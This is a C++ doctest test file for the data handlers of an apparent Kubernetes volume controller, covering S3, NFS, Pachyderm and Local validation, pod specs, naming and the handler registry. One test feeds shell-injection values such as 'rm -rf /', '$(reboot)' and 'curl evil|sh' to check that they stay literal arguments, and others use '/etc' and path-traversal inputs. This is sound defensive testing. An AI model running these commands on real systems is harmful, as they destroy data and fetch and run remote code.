@@ -1,0 +1,571 @@
+// Specification of the DataHandlers: the original's validation messages, the security rules
+// (argv only, allowed data roots), deterministic names valid for any input length, the
+// objects each handler wants, how observed objects become a volume status, and the registry.
+#include <vck/handlers/data_path.hpp>
+#include <vck/handlers/handler_registry.hpp>
+#include <vck/handlers/naming.hpp>
+#include <vck/handlers/option_values.hpp>
+
+#include <doctest.h>
+
+#include <algorithm>
+#include <string>
+#include <vector>
+
+using namespace vck::handlers;
+namespace api = vck::api;
+
+namespace {
+
+api::VolumeManager manager(std::string name = "vm1", std::string ns = "default") {
+    api::VolumeManager vm;
+    vm.metadata.name = std::move(name);
+    vm.metadata.namespace_ = std::move(ns);
+    vm.metadata.uid = "0b8f2a4e-1c7d-4a8e-9d51-3f2b6c7e8a90";
+    return vm;
+}
+
+api::VolumeConfig s3_volume(int replicas = 1) {
+    api::VolumeConfig vc;
+    vc.id = "vol1";
+    vc.replicas = replicas;
+    vc.sourceType = "S3";
+    vc.accessMode = "ReadWriteOnce";
+    vc.labels = {{"key1", "val1"}};
+    vc.options = {{"sourceURL", "s3://bucket/data/"}, {"awsCredentialsSecretName", "aws-creds"}};
+    return vc;
+}
+
+api::VolumeConfig nfs_volume() {
+    api::VolumeConfig vc;
+    vc.id = "shared";
+    vc.replicas = 1;
+    vc.sourceType = "NFS";
+    vc.accessMode = "ReadWriteMany";
+    vc.labels = {{"key1", "val1"}};
+    vc.options = {{"server", "10.0.0.5"}, {"path", "/exports/data"}};
+    return vc;
+}
+
+api::VolumeConfig pachyderm_volume() {
+    api::VolumeConfig vc;
+    vc.id = "pach";
+    vc.replicas = 1;
+    vc.sourceType = "Pachyderm";
+    vc.accessMode = "ReadWriteOnce";
+    vc.labels = {{"key1", "val1"}};
+    vc.options = {{"repo", "images"}, {"branch", "master"}, {"inputPath", "/training/"}, {"outputPath", "out"}};
+    return vc;
+}
+
+api::Node node(std::string name, api::Labels labels = {}) {
+    api::Node n;
+    n.metadata.name = std::move(name);
+    n.metadata.labels = std::move(labels);
+    return n;
+}
+
+HandlerContext context(int nodes = 3) {
+    HandlerContext ctx;
+    ctx.options.data_mover_image = "registry.example/vck-fetch:1";
+    ctx.nodes = [nodes] {
+        std::vector<api::Node> out;
+        for (int i = 0; i < nodes; ++i) out.push_back(node("node-" + std::to_string(i), {{"disk", i == 0 ? "ssd" : "hdd"}}));
+        return out;
+    };
+    ctx.secret = [](const std::string& ns, const std::string& name) -> std::optional<api::Secret> {
+        if (ns != "default" || name != "aws-creds") return std::nullopt;
+        api::Secret s;
+        s.data = {{"awsAccessKeyID", "QUtJQQ=="}, {"awsSecretAccessKey", "c2VjcmV0"}};
+        return s;
+    };
+    ctx.pod_log_tail = [](const api::Pod& p) { return "log of " + p.metadata.name + ": access denied"; };
+    return ctx;
+}
+
+api::Pod with_phase(api::Pod p, std::string phase, std::string node_name = "node-0") {
+    p.status = api::PodStatus{};
+    p.status->phase = std::move(phase);
+    p.spec.nodeName = std::move(node_name);
+    return p;
+}
+
+bool valid_dns_label(const std::string& s) {
+    if (s.empty() || s.size() > 63) return false;
+    for (char c : s)
+        if (!((c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '-')) return false;
+    return s.front() != '-' && s.back() != '-';
+}
+
+bool valid_label_name(const std::string& s) {
+    if (s.empty() || s.size() > 63) return false;
+    auto alnum = [](char c) { return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9'); };
+    for (char c : s)
+        if (!alnum(c) && c != '-' && c != '_' && c != '.') return false;
+    return alnum(s.front()) && alnum(s.back());
+}
+
+} // namespace
+
+// ---- validation messages of the reference ----------------------------------------------
+
+TEST_CASE("S3 validation words every failure as the original did") {
+    S3Handler h;
+    auto check = [&](auto mutate, std::string expected) {
+        auto vc = s3_volume();
+        mutate(vc);
+        CHECK(h.validate(vc) == expected);
+    };
+    CHECK(h.validate(s3_volume()) == std::nullopt);
+    check([](auto& vc) { vc.labels.clear(); }, "labels cannot be empty");
+    check([](auto& vc) { vc.options.erase("awsCredentialsSecretName"); }, "awsCredentialsSecretName key has to be set in options");
+    check([](auto& vc) { vc.options.erase("sourceURL"); }, "sourceURL has to be set in options");
+    check([](auto& vc) { vc.accessMode = "ReadWriteMany"; }, "access mode has to be ReadWriteOnce");
+    check([](auto& vc) { vc.options["timeoutForDataDownload"] = "five minutes"; }, "error while parsing timeout for data download");
+    check([](auto& vc) { vc.options["resync"] = "yes"; }, "error while parsing resync option");
+    check([](auto& vc) { vc.options["resync"] = "true"; vc.replicas = 2; }, "replicas cannot be > 1 when resync is set");
+}
+
+TEST_CASE("an invalid distributionStrategy is reported with what is wrong") {
+    S3Handler h;
+    for (std::string bad : {"not json", R"({"*.jpg": 1})", R"({"*.jpg": 0, "*.png": 3})", R"({"[a-": 3})",
+                            R"(["*.jpg"])", R"({"*.jpg": "3"})"}) {
+        auto vc = s3_volume(3);
+        vc.options["distributionStrategy"] = bad;
+        auto e = h.validate(vc);
+        CAPTURE(bad);
+        REQUIRE(e);
+        CHECK(e->rfind("invalid distributionStrategy", 0) == 0);
+    }
+    auto vc = s3_volume(3);
+    vc.options["distributionStrategy"] = R"({"*.jpg": 2, "*.png": 1})";
+    CHECK(h.validate(vc) == std::nullopt);
+}
+
+TEST_CASE("S3 validation in context checks node count, the Secret and its keys") {
+    S3Handler h;
+    auto ctx = context(2);
+    CHECK(h.validate(ctx, manager(), s3_volume(3)) == "replicas [3] greater than number of nodes [2]");
+    auto vc = s3_volume();
+    vc.options["awsCredentialsSecretName"] = "missing";
+    CHECK(h.validate(ctx, manager(), vc) == R"(awsCredentialsSecretName: Secret "missing" not found in namespace "default")");
+    ctx.secret = [](const std::string&, const std::string&) -> std::optional<api::Secret> {
+        api::Secret s;
+        s.data = {{"awsAccessKeyID", "QUtJQQ=="}};
+        return s;
+    };
+    CHECK(h.validate(ctx, manager(), s3_volume()) == R"(awsCredentialsSecretName: Secret "aws-creds" has no key "awsSecretAccessKey")");
+}
+
+TEST_CASE("NFS validation words every failure as the original did") {
+    NfsHandler h;
+    CHECK(h.validate(nfs_volume()) == std::nullopt);
+    auto vc = nfs_volume();
+    vc.labels.clear();
+    CHECK(h.validate(vc) == "labels cannot be empty");
+    vc = nfs_volume();
+    vc.options.erase("server");
+    CHECK(h.validate(vc) == "server has to be set in options");
+    vc = nfs_volume();
+    vc.options.erase("path");
+    CHECK(h.validate(vc) == "path has to be set in options");
+    vc = nfs_volume();
+    vc.accessMode = "ReadWriteOnce";
+    CHECK(h.validate(vc) == "access mode has to be either ReadWriteMany or ReadOnlyMany");
+    vc.accessMode = "ReadOnlyMany";
+    CHECK(h.validate(vc) == std::nullopt);
+}
+
+TEST_CASE("Pachyderm validation words every failure as the original did") {
+    PachydermHandler h;
+    CHECK(h.validate(pachyderm_volume()) == std::nullopt);
+    for (std::string key : {"repo", "branch", "inputPath", "outputPath"}) {
+        auto vc = pachyderm_volume();
+        vc.options.erase(key);
+        CHECK(h.validate(vc) == key + " has to be set in options");
+    }
+    auto vc = pachyderm_volume();
+    vc.accessMode = "ReadOnlyMany";
+    CHECK(h.validate(vc) == "access mode has to be ReadWriteOnce");
+    vc = pachyderm_volume();
+    vc.labels.clear();
+    CHECK(h.validate(vc) == "labels cannot be empty");
+    vc = pachyderm_volume();
+    vc.options["timeoutForDataDownload"] = "5 min";
+    CHECK(h.validate(vc) == "error while parsing timeout for data download");
+    vc = pachyderm_volume();
+    vc.options["outputPath"] = "../../etc";
+    CHECK(h.validate(vc) == "outputPath has to be a relative path inside the volume");
+}
+
+TEST_CASE("Go durations and booleans parse as the original's Go code did") {
+    CHECK(parse_go_duration("5m") == 300.0);
+    CHECK(parse_go_duration("1h30m") == 5400.0);
+    CHECK(parse_go_duration("1.5s") == 1.5);
+    CHECK(parse_go_duration("250ms") == doctest::Approx(0.25));
+    CHECK(parse_go_duration("0") == 0.0);
+    CHECK_FALSE(parse_go_duration("5"));
+    CHECK_FALSE(parse_go_duration("m"));
+    CHECK_FALSE(parse_go_duration("5 m"));
+    CHECK(parse_go_bool("True") == true);
+    CHECK(parse_go_bool("0") == false);
+    CHECK_FALSE(parse_go_bool("yes"));
+}
+
+// ---- data paths ---------------------------------------------------------------------------
+
+TEST_CASE("dataPath outside the allowed roots is rejected after normalisation") {
+    const std::vector<std::string> roots{"/var/datasets"};
+    for (std::string bad : {"/", "/etc", "/var/datasets/../etc", "/var/datasets2", "relative/path", "", "/var"}) {
+        CAPTURE(bad);
+        CHECK_FALSE(check_data_path(bad, roots).ok());
+    }
+    CHECK(check_data_path("/etc", roots).error == R"(dataPath "/etc" is not under an allowed data root (/var/datasets))");
+    CHECK(check_data_path("/var/datasets", roots).path == "/var/datasets");
+    CHECK(check_data_path("/var/datasets/./a//b/", roots).path == "/var/datasets/a/b");
+    CHECK_FALSE(check_data_path("/etc", {"/"}).ok());
+}
+
+TEST_CASE("a volume whose dataPath escapes the allowed roots fails and gets no pods") {
+    S3Handler s3;
+    PachydermHandler pach;
+    auto ctx = context();
+    for (std::string bad : {"/", "/etc", "/var/datasets/../etc"}) {
+        auto vc = s3_volume();
+        vc.options["dataPath"] = bad;
+        CHECK(s3.validate(ctx, manager(), vc)->find("is not under an allowed data root") != std::string::npos);
+        CHECK(s3.desired(ctx, manager(), vc).pods.empty());
+        CHECK(s3.status(ctx, manager(), vc, {}).phase == VolumePhase::Failed);
+        auto pv = pachyderm_volume();
+        pv.options["dataPath"] = bad;
+        CHECK(pach.desired(ctx, manager(), pv).pods.empty());
+    }
+}
+
+// ---- names ---------------------------------------------------------------------------------
+
+TEST_CASE("names are deterministic DNS labels even for 253-character names and ids") {
+    std::string long_name(253, 'a');
+    std::string long_id = "Volume_ID." + std::string(240, 'Z');
+    auto a = naming::replica_pod_name("uid-1", long_id, 7);
+    CHECK(valid_dns_label(a));
+    CHECK(a == naming::replica_pod_name("uid-1", long_id, 7));
+    CHECK(a != naming::replica_pod_name("uid-1", long_id, 8));
+    CHECK(a != naming::replica_pod_name("uid-2", long_id, 7));
+    CHECK(valid_dns_label(naming::cleanup_pod_name("uid-1", long_id, "node-" + long_name)));
+    CHECK(valid_dns_label(naming::object_name("uid", "---", "pv")));
+    auto vm = manager(long_name, std::string(63, 'n'));
+    auto vc = s3_volume();
+    vc.id = long_id;
+    for (const auto& p : S3Handler{}.desired(context(), vm, vc).pods) {
+        CHECK(valid_dns_label(p.metadata.name));
+        for (const auto& [k, v] : p.metadata.labels) CHECK(v.size() <= 63);
+    }
+}
+
+TEST_CASE("node label keys stay valid and distinct for any namespace, name and id length") {
+    auto key = naming::node_label_key("default", "vm1", "vol1");
+    CHECK(key == "vck.intelai.org/default.vm1.vol1");
+    std::string long_name(253, 'b');
+    auto k1 = naming::node_label_key(std::string(63, 'n'), long_name, "vol1");
+    auto k2 = naming::node_label_key(std::string(63, 'n'), long_name, "vol2");
+    CHECK(k1 != k2);
+    for (const auto& k : {k1, k2, naming::node_label_key("ns", "name", "weird/id:with*chars")}) {
+        CAPTURE(k);
+        REQUIRE(k.rfind("vck.intelai.org/", 0) == 0);
+        CHECK(valid_label_name(k.substr(std::string("vck.intelai.org/").size())));
+    }
+    CHECK(valid_label_name(naming::label_value(long_name)));
+    CHECK(naming::label_value("vm1") == "vm1");
+}
+
+// ---- S3 pods -------------------------------------------------------------------------------
+
+TEST_CASE("S3 download pods run vck-fetch with argv and secretKeyRef env, one per replica") {
+    auto ctx = context();
+    auto vm = manager();
+    auto vc = s3_volume(2);
+    vc.options["endpointURL"] = "http://minio:9000";
+    vc.tolerations.push_back(api::Toleration{"gpu", "Exists", "", "NoSchedule", std::nullopt});
+    vc.nodeAffinity = api::NodeAffinity{};
+    vc.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution =
+        api::NodeSelector{{api::NodeSelectorTerm{{api::NodeSelectorRequirement{"disk", "In", {"ssd"}}}, {}}}};
+    auto pods = S3Handler{}.desired(ctx, vm, vc).pods;
+    REQUIRE(pods.size() == 2);
+    CHECK(pods[0].metadata.name != pods[1].metadata.name);
+    const auto& pod = pods[0];
+    const auto& c = pod.spec.containers.at(0);
+    CHECK(c.image == "registry.example/vck-fetch:1");
+    CHECK(c.command == std::vector<std::string>{"vck-fetch"});
+    CHECK(c.args == std::vector<std::string>{"fetch", "s3://bucket/data/", "/vck/data", "--endpoint=http://minio:9000"});
+    REQUIRE(c.env.size() == 2);
+    CHECK(c.env[0].name == "AWS_ACCESS_KEY_ID");
+    CHECK(c.env[0].valueFrom->secretKeyRef->name == "aws-creds");
+    CHECK(c.env[0].valueFrom->secretKeyRef->key == "awsAccessKeyID");
+    CHECK(c.env[1].valueFrom->secretKeyRef->key == "awsSecretAccessKey");
+    CHECK(pod.spec.restartPolicy == "Never");
+    CHECK(pod.spec.activeDeadlineSeconds == 300);
+    CHECK(pod.spec.volumes.at(0).hostPath->path ==
+          naming::volume_directory("/var/datasets", vm.metadata.uid, vc.id));
+    CHECK(pod.spec.volumes.at(0).hostPath->path.rfind("/var/datasets/vck-resource-", 0) == 0);
+    CHECK(pod.spec.tolerations.at(0).key == "gpu");
+    CHECK(pod.spec.affinity->nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution->nodeSelectorTerms.at(0)
+              .matchExpressions.at(0).key == "disk");
+    const auto& spread = pod.spec.affinity->podAntiAffinity->requiredDuringSchedulingIgnoredDuringExecution.at(0);
+    CHECK(spread.topologyKey == "kubernetes.io/hostname");
+    CHECK(spread.labelSelector->matchLabels == volume_selector(vm, vc));
+    for (const auto& [k, v] : volume_selector(vm, vc)) CHECK(pod.metadata.labels.at(k) == v);
+    CHECK(pod.metadata.labels.at("vckname") == "vm1");
+    CHECK(pod.metadata.labels.at("vcid") == "vol1");
+    CHECK(pod.metadata.labels.at("key1") == "val1");
+    CHECK(pod.metadata.ownerReferences.at(0).kind == "VolumeManager");
+    CHECK(pod.metadata.ownerReferences.at(0).controller == true);
+    CHECK(S3Handler{}.desired(ctx, vm, vc).pods.at(1).metadata.name == pods[1].metadata.name);
+}
+
+TEST_CASE("shell-injection payloads stay literal argv entries") {
+    std::string payload = "s3://bucket/x; rm -rf / #$(reboot)`id`";
+    auto vc = s3_volume(1);
+    vc.options["sourceURL"] = payload;
+    vc.options["distributionStrategy"] = R"({"*.jpg; curl evil|sh": 1})";
+    vc.options["endpointURL"] = "http://h/$(whoami)";
+    auto pods = S3Handler{}.desired(context(), manager(), vc).pods;
+    REQUIRE(pods.size() == 1);
+    const auto& c = pods[0].spec.containers.at(0);
+    CHECK(c.command == std::vector<std::string>{"vck-fetch"});
+    CHECK(c.args.at(1) == payload);
+    CHECK(c.args.at(3) == "--endpoint=http://h/$(whoami)");
+    CHECK(c.args.at(4) == "--include=*.jpg; curl evil|sh");
+    for (const auto& a : c.args) CHECK(a.find("sh -c") == std::string::npos);
+
+    auto pv = pachyderm_volume();
+    pv.options["repo"] = "--help; rm -rf /";
+    pv.options["branch"] = "$(id)";
+    auto pp = PachydermHandler{}.desired(context(), manager(), pv).pods;
+    REQUIRE(pp.size() == 1);
+    const auto& pc = pp[0].spec.containers.at(0);
+    CHECK(pc.command == std::vector<std::string>{"pachctl"});
+    CHECK(pc.args == std::vector<std::string>{"get-file", "--recursive", "--output=/vck/data/out", "--",
+                                              "--help; rm -rf /", "$(id)", "/training/"});
+    CHECK(pc.env.at(0).name == "PACHD_ADDRESS");
+    CHECK(pc.env.at(0).value == "pachd.default.svc:650");
+}
+
+TEST_CASE("each replica downloads only its distributionStrategy glob") {
+    auto vc = s3_volume(3);
+    vc.options["distributionStrategy"] = R"({"train/*.jpg": 2, "val/*.jpg": 1})";
+    auto pods = S3Handler{}.desired(context(), manager(), vc).pods;
+    REQUIRE(pods.size() == 3);
+    CHECK(pods[0].spec.containers[0].args.back() == "--include=train/*.jpg");
+    CHECK(pods[1].spec.containers[0].args.back() == "--include=train/*.jpg");
+    CHECK(pods[2].spec.containers[0].args.back() == "--include=val/*.jpg");
+}
+
+TEST_CASE("resync downloads in an init container, then keeps syncing back") {
+    auto vc = s3_volume(1);
+    vc.options["resync"] = "true";
+    auto pods = S3Handler{}.desired(context(), manager(), vc).pods;
+    REQUIRE(pods.size() == 1);
+    CHECK(pods[0].spec.initContainers.at(0).args.at(0) == "fetch");
+    CHECK(pods[0].spec.containers.at(0).args ==
+          std::vector<std::string>{"sync-back", "/vck/data", "s3://bucket/data/", "--endpoint=https://s3.amazonaws.com"});
+    CHECK_FALSE(pods[0].spec.activeDeadlineSeconds);
+    auto running = with_phase(pods[0], "Running");
+    auto out = S3Handler{}.status(context(), manager(), vc, {{running}, {}, {}});
+    CHECK(out.phase == VolumePhase::Ready);
+}
+
+// ---- S3 status -----------------------------------------------------------------------------
+
+TEST_CASE("S3 status is pending until every replica succeeded, then gives hostPath and node affinity") {
+    S3Handler h;
+    auto ctx = context();
+    auto vm = manager();
+    auto vc = s3_volume(2);
+    auto pods = h.desired(ctx, vm, vc).pods;
+    auto none = h.status(ctx, vm, vc, {});
+    CHECK(none.phase == VolumePhase::Pending);
+    auto half = h.status(ctx, vm, vc, {{with_phase(pods[0], "Succeeded", "node-0"), with_phase(pods[1], "Running", "node-1")}, {}, {}});
+    CHECK(half.phase == VolumePhase::Pending);
+    CHECK(half.status.message == "downloading: 1 of 2 replicas done");
+    CHECK(half.node_labels.size() == 2);  // both nodes hold (partial) data
+    auto done = h.status(ctx, vm, vc, {{with_phase(pods[0], "Succeeded", "node-0"), with_phase(pods[1], "Succeeded", "node-1")}, {}, {}});
+    REQUIRE(done.phase == VolumePhase::Ready);
+    CHECK(done.status.message == "success");
+    CHECK(done.status.volumeSource->hostPath->path == naming::volume_directory("/var/datasets", vm.metadata.uid, vc.id));
+    auto key = naming::node_label_key("default", "vm1", "vol1");
+    const auto& req = done.status.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution->nodeSelectorTerms.at(0)
+                          .matchExpressions.at(0);
+    CHECK(req.key == key);
+    CHECK(done.node_labels == std::vector<NodeLabel>{{"node-0", key, "true"}, {"node-1", key, "true"}});
+}
+
+TEST_CASE("a failed download fails the volume with the tail of the pod's log") {
+    S3Handler h;
+    auto ctx = context();
+    auto vc = s3_volume(1);
+    auto pod = with_phase(h.desired(ctx, manager(), vc).pods.at(0), "Failed");
+    auto out = h.status(ctx, manager(), vc, {{pod}, {}, {}});
+    CHECK(out.phase == VolumePhase::Failed);
+    CHECK(out.status.message == "error during data download using pod " + pod.metadata.name + ": log of " +
+                                    pod.metadata.name + ": access denied");
+    pod.status->reason = "DeadlineExceeded";
+    CHECK(h.status(ctx, manager(), vc, {{pod}, {}, {}}).status.message.find("(timed out)") != std::string::npos);
+}
+
+TEST_CASE("S3 cleanup stops downloads, deletes the volume directory on each node, then unlabels") {
+    S3Handler h;
+    auto ctx = context();
+    auto vm = manager();
+    auto vc = s3_volume(1);
+    auto download = with_phase(h.desired(ctx, vm, vc).pods.at(0), "Succeeded", "node-2");
+    auto first = h.cleanup_objects(ctx, vm, vc, {{download}, {}, {}});
+    CHECK_FALSE(first.done);
+    CHECK(first.pods_to_delete == std::vector<std::string>{download.metadata.name});
+    CHECK(first.pods.empty());
+
+    auto key = naming::node_label_key("default", "vm1", "vol1");
+    ctx.nodes = [key] { return std::vector<api::Node>{node("node-2", {{key, "true"}}), node("node-3")}; };
+    auto second = h.cleanup_objects(ctx, vm, vc, {});
+    CHECK_FALSE(second.done);
+    REQUIRE(second.pods.size() == 1);
+    const auto& cp = second.pods[0];
+    CHECK(cp.spec.nodeName == "node-2");
+    auto dir = naming::volume_directory("/var/datasets", vm.metadata.uid, vc.id);
+    CHECK(cp.spec.containers.at(0).args ==
+          std::vector<std::string>{"delete", "/vck/root" + dir.substr(dir.rfind('/')), "--allowed-root=/vck/root"});
+    CHECK(cp.spec.volumes.at(0).hostPath->path == "/var/datasets");
+    CHECK(h.cleanup_objects(ctx, vm, vc, {}).pods.at(0).metadata.name == cp.metadata.name);
+
+    auto third = h.cleanup_objects(ctx, vm, vc, {{with_phase(cp, "Succeeded", "node-2")}, {}, {}});
+    CHECK(third.done);
+    CHECK(third.node_labels_to_remove == std::vector<NodeLabel>{{"node-2", key, "true"}});
+    CHECK(third.pods_to_delete == std::vector<std::string>{cp.metadata.name});
+}
+
+// ---- NFS and Local -------------------------------------------------------------------------
+
+TEST_CASE("NFS wants a PersistentVolume pre-bound to its claim, and reports the claim once bound") {
+    NfsHandler h;
+    auto ctx = context();
+    auto vm = manager();
+    auto vc = nfs_volume();
+    auto d = h.desired(ctx, vm, vc);
+    REQUIRE(d.persistent_volumes.size() == 1);
+    REQUIRE(d.claims.size() == 1);
+    const auto& pv = d.persistent_volumes[0];
+    const auto& pvc = d.claims[0];
+    CHECK(pv.spec.nfs->server == "10.0.0.5");
+    CHECK(pv.spec.nfs->path == "/exports/data");
+    CHECK(pv.spec.capacity.at("storage") == "5Gi");
+    CHECK(pv.spec.accessModes == std::vector<std::string>{"ReadWriteMany"});
+    CHECK(pv.spec.claimRef->name == pvc.metadata.name);
+    CHECK(pv.spec.claimRef->namespace_ == "default");
+    CHECK(pvc.spec.volumeName == pv.metadata.name);
+    CHECK(pvc.spec.storageClassName == std::string());
+    CHECK(pv.metadata.ownerReferences.empty());  // cluster-scoped: deleted by cleanup instead
+    CHECK(pvc.metadata.ownerReferences.size() == 1);
+    CHECK(h.status(ctx, vm, vc, {{}, {pv}, {pvc}}).phase == VolumePhase::Pending);
+    auto bound = pvc;
+    bound.status = api::PersistentVolumeClaimStatus{};
+    bound.status->phase = "Bound";
+    auto out = h.status(ctx, vm, vc, {{}, {pv}, {bound}});
+    CHECK(out.phase == VolumePhase::Ready);
+    CHECK(out.status.volumeSource->persistentVolumeClaim->claimName == pvc.metadata.name);
+    auto plan = h.cleanup_objects(ctx, vm, vc, {{}, {pv}, {bound}});
+    CHECK(plan.persistent_volumes_to_delete == std::vector<std::string>{pv.metadata.name});
+    CHECK(plan.claims_to_delete == std::vector<std::string>{pvc.metadata.name});
+    CHECK(h.cleanup_objects(ctx, vm, vc, {}).done);
+}
+
+TEST_CASE("Local exposes the directory on matching nodes through a WaitForFirstConsumer class") {
+    LocalHandler h;
+    auto ctx = context(3);
+    auto vm = manager();
+    api::VolumeConfig vc = nfs_volume();
+    vc.sourceType = "Local";
+    vc.accessMode = "ReadWriteOnce";
+    vc.options = {{"path", "/var/datasets/imagenet"}};
+    vc.nodeAffinity = api::NodeAffinity{};
+    vc.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution =
+        api::NodeSelector{{api::NodeSelectorTerm{{api::NodeSelectorRequirement{"disk", "In", {"ssd"}}}, {}}}};
+    auto d = h.desired(ctx, vm, vc);
+    REQUIRE(d.storage_classes.size() == 1);
+    CHECK(d.storage_classes[0].volumeBindingMode == "WaitForFirstConsumer");
+    CHECK(d.storage_classes[0].provisioner == "kubernetes.io/no-provisioner");
+    REQUIRE(d.persistent_volumes.size() == 1);  // only node-0 has disk=ssd
+    const auto& pv = d.persistent_volumes[0];
+    CHECK(pv.spec.local->path == "/var/datasets/imagenet");
+    CHECK(pv.spec.nodeAffinity->required->nodeSelectorTerms.at(0).matchFields.at(0).values ==
+          std::vector<std::string>{"node-0"});
+    CHECK(pv.spec.storageClassName == ctx.options.local_storage_class);
+    REQUIRE(d.claims.size() == 1);
+    CHECK(d.claims[0].spec.storageClassName == ctx.options.local_storage_class);
+    CHECK(d.claims[0].spec.selector->matchLabels == volume_selector(vm, vc));
+    CHECK(h.status(ctx, vm, vc, {{}, d.persistent_volumes, d.claims}).phase == VolumePhase::Ready);
+    vc.nodeAffinity = std::nullopt;
+    CHECK(h.desired(ctx, vm, vc).persistent_volumes.size() == 3);
+    vc.options["path"] = "/etc";
+    CHECK(h.desired(ctx, vm, vc).persistent_volumes.empty());
+    CHECK(h.status(ctx, vm, vc, {}).phase == VolumePhase::Failed);
+}
+
+// ---- registry ------------------------------------------------------------------------------
+
+namespace {
+struct EchoHandler {
+    std::optional<std::string> validate(const api::VolumeConfig& vc) const {
+        if (!vc.has_option("echo")) return std::string("echo has to be set in options");
+        return std::nullopt;
+    }
+    std::optional<std::string> validate(const HandlerContext&, const api::VolumeManager&, const api::VolumeConfig& vc) const {
+        return validate(vc);
+    }
+    DesiredObjects desired(const HandlerContext&, const api::VolumeManager&, const api::VolumeConfig&) const { return {}; }
+    VolumeOutcome status(const HandlerContext&, const api::VolumeManager&, const api::VolumeConfig& vc,
+                         const ObservedObjects&) const {
+        VolumeOutcome o;
+        o.phase = VolumePhase::Ready;
+        o.status.id = vc.id;
+        o.status.message = "success";
+        return o;
+    }
+    CleanupPlan cleanup_objects(const HandlerContext&, const api::VolumeManager&, const api::VolumeConfig&,
+                                const ObservedObjects&) const {
+        CleanupPlan p;
+        p.done = true;
+        return p;
+    }
+};
+static_assert(DataHandler<EchoHandler>);
+static_assert(DataHandler<S3Handler> && DataHandler<NfsHandler> && DataHandler<PachydermHandler> && DataHandler<LocalHandler>);
+} // namespace
+
+TEST_CASE("an unknown sourceType gets a message listing the known types") {
+    auto r = HandlerRegistry::with_builtin_handlers();
+    auto l = r.find("FTP");
+    CHECK(l.handler == nullptr);
+    CHECK(l.error == R"(unknown sourceType "FTP": known types are Local, NFS, Pachyderm, S3, S3-Dev)");
+}
+
+TEST_CASE("S3-Dev resolves to the S3 handler with a deprecation warning") {
+    auto r = HandlerRegistry::with_builtin_handlers();
+    auto l = r.find("S3-Dev");
+    REQUIRE(l.handler);
+    CHECK_FALSE(l.warning.empty());
+    CHECK(l.handler->validate(s3_volume()) == std::nullopt);
+    CHECK(l.handler->validate(nfs_volume()) == "awsCredentialsSecretName key has to be set in options");
+    CHECK(r.find("S3").warning.empty());
+}
+
+TEST_CASE("user handlers are added without editing the library and are listed") {
+    auto r = HandlerRegistry::with_builtin_handlers();
+    r.add("Echo", EchoHandler{});
+    auto l = r.find("Echo");
+    REQUIRE(l.handler);
+    auto vc = nfs_volume();
+    CHECK(l.handler->validate(vc) == "echo has to be set in options");
+    CHECK(l.handler->status(context(), manager(), vc, {}).status.message == "success");
+    CHECK(r.find("Nope").error.find("Echo") != std::string::npos);
+    CHECK_THROWS_AS(r.add_alias("X", "Missing", "w"), std::invalid_argument);
+}
